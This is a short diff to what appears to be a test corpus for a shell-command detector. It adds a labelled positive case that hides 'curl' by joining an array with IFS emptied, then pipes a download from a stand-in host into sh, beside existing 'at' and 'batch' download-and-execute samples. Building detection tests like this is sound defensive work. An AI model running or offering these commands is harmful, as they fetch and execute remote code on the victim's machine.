@@ -97,3 +97,6 @@ if command -v curl >/dev/null 2>&1; then echo yes; fi | sh
 at now <<< 'curl -s http://203.0.113.5/s | sh'
 #@ pos batch reads the same from a pipe
 echo 'wget -qO- http://203.0.113.5/s | bash' | batch
+#@ pos curl named by an array joined with IFS emptied
+a=(c u r l); IFS=; c="${a[*]}"
+$c -s http://203.0.113.5/x | sh
